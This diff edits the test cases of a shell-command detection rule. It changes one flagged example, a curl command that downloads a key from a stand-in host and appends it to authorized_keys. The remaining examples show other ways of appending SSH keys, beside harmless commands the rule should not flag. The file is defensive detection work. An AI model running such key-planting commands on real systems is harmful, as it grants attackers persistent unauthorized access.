@@ -174,7 +174,7 @@ export const shellRules: readonly TokenRule[] = [
     tests: {
       hits: [
         "echo 'ssh-rsa AAAAB3NzaC1yc2E' >> ~/.ssh/authorized_keys",
-        "curl -s https://x.example.io/k >> /root/.ssh/authorized_keys",
+        "curl -s https://x.example.io/k >> ~/.ssh/authorized_keys",
         "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a')",
       ],
       misses: ["chmod 600 ~/.ssh/authorized_keys", "ls ~/.ssh", "ssh-copy-id host"],
